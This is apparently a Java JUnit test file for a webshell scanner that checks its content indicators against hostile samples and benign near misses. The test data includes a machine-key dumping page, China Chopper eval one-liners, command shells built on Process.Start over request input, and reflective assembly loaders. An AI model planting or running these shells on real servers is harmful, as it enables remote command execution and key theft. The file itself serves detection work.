package dev.vigil.scan;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** Each bundled content indicator on webshell text and on near misses from ordinary pages. */
class ContentIndicatorTest {
    private static final ContentMatcher MATCHER = new ContentMatcher(IndicatorCatalog.builtIn().contents());
    private static final String BLOB = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhp".repeat(12);

    static Stream<Arguments> cases() {
        return Stream.of(
                // ToolShell spinstall0 logic
                Arguments.of("""
                        <%@ Import Namespace="System.Web.Configuration" %>
                        <script runat="server">
                        public void Page_Load(object sender, EventArgs e) {
                          var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0");
                          var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
                          var cg = (MachineKeySection)mkt.GetMethod("GetApplicationConfig").Invoke(null, null);
                          Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+cg.Decryption);
                        }
                        </script>""", List.of("content:machinekey-dump")),
                // near miss: reads the machine key section, writes nothing of it out
                Arguments.of("""
                        var section = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");
                        bool custom = section.ValidationKey != "AutoGenerate,IsolateApps";
                        Response.Write("custom key: " + custom);""", List.of()),
                // China Chopper, one line, and as planted through the OAB ExternalUrl
                Arguments.of("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>",
                        List.of("content:china-chopper", "content:eval-request")),
                Arguments.of("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval (Request [ 'klk' ] , 'unsafe');}</script>",
                        List.of("content:china-chopper", "content:eval-request")),
                // eval of request data without the chopper form
                Arguments.of("<script runat=server language=JScript>function Page_Load(){ eval(Request.Form(\"c\")); }</script>",
                        List.of("content:eval-request")),
                // near misses: client-side eval and request in one script, "unsafe" in a comment
                Arguments.of("function x(){ var r = new XMLHttpRequest(); evaluate(r); /* unsafe-inline */ }", List.of()),
                Arguments.of("var evalRequest = 1; // request eval later", List.of()),
                // command webshell: Process.Start over request data, on one line and spread out
                Arguments.of("System.Diagnostics.Process.Start(Request.Form[\"f\"], Request.Form[\"a\"]);",
                        List.of("content:process-start-request")),
                Arguments.of("""
                        ProcessStartInfo psi = new ProcessStartInfo();
                        psi.FileName = "cmd.exe";
                        psi.Arguments = "/c " + Request.QueryString["c"];
                        Process.Start(psi);""", List.of("content:shell-command-page")),
                // near miss: an admin page starting a fixed process, no request input
                Arguments.of("var p = Process.Start(\"iisreset.exe\", \"/noforce\"); Response.Write(Request.Url);", List.of()),
                // encoded loader: a long blob handed to FromBase64String, then Assembly.Load
                Arguments.of("byte[] b = Convert.FromBase64String(\"" + BLOB + "\");",
                        List.of("content:base64-blob-decode")),
                Arguments.of("System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form[\"p\"])).CreateInstance(\"X\");",
                        List.of("content:reflective-assembly-load")),
                Arguments.of("Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length))",
                        List.of("content:reflective-assembly-load")),
                // near misses: a short base64 value, an assembly loaded by name
                Arguments.of("var icon = Convert.FromBase64String(\"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\");", List.of()),
                Arguments.of("var a = System.Reflection.Assembly.Load(\"Microsoft.SharePoint\"); var t = a.GetType(\"X\");", List.of()));
    }

    @ParameterizedTest
    @MethodSource("cases")
    void indicators(String text, List<String> expected) {
        assertThat(ids(text.getBytes(StandardCharsets.UTF_8), 65536)).containsExactlyInAnyOrderElementsOf(expected);
    }

    @ParameterizedTest
    @MethodSource("cases")
    void sameResultFedOneByteAtATime(String text, List<String> expected) {
        assertThat(ids(text.getBytes(StandardCharsets.UTF_8), 1)).containsExactlyInAnyOrderElementsOf(expected);
    }

    @ParameterizedTest
    @MethodSource("cases")
    void sameResultInUtf16LittleEndianWithAByteOrderMark(String text, List<String> expected) {
        byte[] body = text.getBytes(StandardCharsets.UTF_16LE);
        byte[] bytes = new byte[body.length + 2];
        bytes[0] = (byte) 0xff;
        bytes[1] = (byte) 0xfe;
        System.arraycopy(body, 0, bytes, 2, body.length);
        assertThat(ids(bytes, 4096)).containsExactlyInAnyOrderElementsOf(expected);
    }

    @Test
    void caseDoesNotMatter() {
        assertThat(ids("<%EVAL(REQUEST.ITEM[\"X\"],\"UNSAFE\");%>".getBytes(StandardCharsets.US_ASCII), 7))
                .contains("content:china-chopper");
    }

    @Test
    void manyAnchorOccurrencesFallBackToTheWholeText() {
        String noise = "/* evaluate */\n".repeat(ContentMatcher.MAX_ANCHORS + 5);
        String shell = "<%eval(Request.Form(\"c\"));%>";
        assertThat(ids((noise + shell).getBytes(StandardCharsets.US_ASCII), 4096)).containsExactly("content:eval-request");
        assertThat(ids((noise.substring(0, 15 * 10) + "x".repeat(20_000) + shell).getBytes(StandardCharsets.US_ASCII), 4096))
                .as("the shell's own eval is an anchor, however far from the others").containsExactly("content:eval-request");
    }

    @Test
    void keysMustBeWrittenOutByTheResponseWrite() {
        // a Response.Write 5 KiB before an unrelated mention of the key is not the dumping logic
        String far = "Response.Write(" + "x+\n" + "/* padding */".repeat(400) + "cg.ValidationKey); MachineKeySection";
        String near = "Response.Write(cg.ValidationKey); MachineKeySection";
        assertThat(ids(near.getBytes(StandardCharsets.US_ASCII), 4096)).containsExactly("content:machinekey-dump");
        assertThat(ids(far.getBytes(StandardCharsets.US_ASCII), 4096)).isEmpty();
    }

    @Test
    void theMatchReportsItsLine() {
        ContentMatcher.Search search = MATCHER.search();
        byte[] bytes = "line one\nline two\n<%eval(Request.Item[\"p\"],\"unsafe\");%>\n".getBytes(StandardCharsets.US_ASCII);
        search.reset();
        search.feed(bytes, 0, bytes.length, 0);
        List<ContentMatcher.Hit> hits = search.finish(bytes, bytes.length);
        assertThat(hits).isNotEmpty().allSatisfy(hit -> assertThat(hit.offset()).isEqualTo(20));
    }

    private static List<String> ids(byte[] bytes, int chunk) {
        ContentMatcher.Search search = MATCHER.search();
        search.reset();
        for (int offset = 0; offset < bytes.length; offset += chunk) {
            search.feed(bytes, offset, Math.min(chunk, bytes.length - offset), offset);
        }
        return search.finish(bytes, bytes.length).stream().map(hit -> hit.indicator().about().id()).toList();
    }
}
